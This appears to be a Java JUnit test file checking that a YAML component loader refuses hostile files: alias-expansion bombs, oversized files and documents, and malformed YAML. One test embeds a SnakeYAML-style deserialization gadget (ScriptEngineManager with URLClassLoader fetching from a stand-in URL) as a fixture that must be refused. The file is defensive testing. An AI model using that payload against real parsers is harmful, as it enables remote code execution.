package io.statedesk.component;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import io.statedesk.component.model.ComponentSet;
import io.statedesk.component.yaml.SafeYaml;
import io.statedesk.component.model.Severity;
import io.statedesk.component.model.Violation;
import io.statedesk.component.validation.ComponentValidator;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Files built to hurt a parser get a clear error, fast, never a hang or an out-of-memory. */
class HostileFileTest {

    private static final Duration QUICKLY = Duration.ofSeconds(2);

    @Test
    void billionLaughs_isRefusedQuickly_withAClearError() {
        List<Violation> violations = assertTimeoutPreemptively(QUICKLY, () -> ComponentValidator.validate(
                ComponentLoader.load(Fixtures.components("hostile/billion-laughs.yaml"))));

        assertThat(violations).singleElement().satisfies(v -> {
            assertThat(v.severity()).isEqualTo(Severity.ERROR);
            assertThat(v.field()).isEqualTo("yaml");
            assertThat(v.message()).contains("more than 20 aliases").contains("billion laughs").contains("refused");
        });
    }

    @Test
    void fiftyMegabyteFile_isRefusedQuickly_withoutBeingRead(@TempDir Path dir) throws IOException {
        Path big = dir.resolve("huge.yaml");
        try (RandomAccessFile raf = new RandomAccessFile(big.toFile(), "rw")) {
            raf.setLength(50L * 1024 * 1024);
        }

        ComponentSet set = assertTimeoutPreemptively(QUICKLY, () -> ComponentLoader.load(dir));

        assertThat(set.components()).isEmpty();
        assertThat(set.readProblems()).singleElement().satisfies(v -> {
            assertThat(v.severity()).isEqualTo(Severity.ERROR);
            assertThat(v.field()).isEqualTo("file");
            assertThat(v.message()).contains("52,428,800 bytes").contains("at most 262,144 bytes")
                    .contains("refused");
        });
    }

    @Test
    void fileJustOverTheLimit_isRefused_andOneAtTheLimitIsRead(@TempDir Path dir) throws IOException {
        String header = "kind: Component\nmetadata:\n  name: big\n";
        // Documents of 60 KiB of comments each (daprd reads documents of at most 64 KiB) up to the file limit.
        String comment = "#".repeat(1023) + "\n";
        StringBuilder text = new StringBuilder(header);
        while (text.length() + 64 * 1024 < SafeYaml.MAX_FILE_BYTES) {
            text.append(comment.repeat(60)).append("---\n");
        }
        text.append("#".repeat(SafeYaml.MAX_FILE_BYTES - text.length() - 1)).append('\n');
        Path atLimit = dir.resolve("at-limit.yaml");
        Files.writeString(atLimit, text, StandardCharsets.UTF_8);
        Path over = dir.resolve("over.yaml");
        Files.writeString(over, text + "#", StandardCharsets.UTF_8);

        assertThat(Files.size(atLimit)).isEqualTo(SafeYaml.MAX_FILE_BYTES);
        assertThat(ComponentLoader.load(atLimit).components()).hasSize(1);
        assertThat(ComponentLoader.load(over).readProblems()).singleElement()
                .satisfies(v -> assertThat(v.message()).contains("262,145 bytes"));
    }

    @Test
    void documentOverDaprdsLimit_isAnError_andNotParsed(@TempDir Path dir) throws IOException {
        String header = "kind: Component\nmetadata:\n  name: big\nspec:\n  metadata:\n  - name: "
                + "n".repeat(70 * 1024) + "\n    value: x\n";
        Path file = Files.writeString(dir.resolve("big-document.yaml"), header, StandardCharsets.UTF_8);

        ComponentSet set = ComponentLoader.load(file);

        assertThat(set.components()).isEmpty();
        assertThat(set.readProblems()).singleElement().satisfies(v -> {
            assertThat(v.severity()).isEqualTo(Severity.ERROR);
            assertThat(v.message()).contains("larger than 64 KiB", "not read");
        });
    }

    @Test
    void javaTypeTags_areNeverConstructed(@TempDir Path dir) throws IOException {
        Path file = dir.resolve("tags.yaml");
        Files.writeString(file, """
                apiVersion: dapr.io/v1alpha1
                kind: Component
                metadata:
                  name: tagged
                spec:
                  type: state.aws.dynamodb
                  metadata:
                  - name: table
                    value: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x"]]]]
                """);

        ComponentSet set = ComponentLoader.load(file);

        assertThat(set.components()).isEmpty();
        assertThat(set.readProblems()).singleElement().satisfies(v -> {
            assertThat(v.line()).isEqualTo(9);
            assertThat(v.message()).contains("global type tag").contains("refused");
        });
    }

    @Test
    void oneBrokenDocument_doesNotHideTheOthers(@TempDir Path dir) throws IOException {
        Path file = dir.resolve("mixed.yaml");
        Files.writeString(file, "kind: Component\nmetadata: {name: a\n---\nkind: Component\nmetadata:\n  name: b\n");

        ComponentSet set = ComponentLoader.load(file);

        assertThat(set.components()).extracting(c -> c.name()).containsExactly("b");
        assertThat(set.readProblems()).singleElement().satisfies(v -> {
            assertThat(v.line()).as("the unclosed flow mapping ends the first document").isEqualTo(2);
            assertThat(v.message()).startsWith("Not valid YAML");
        });
    }
}
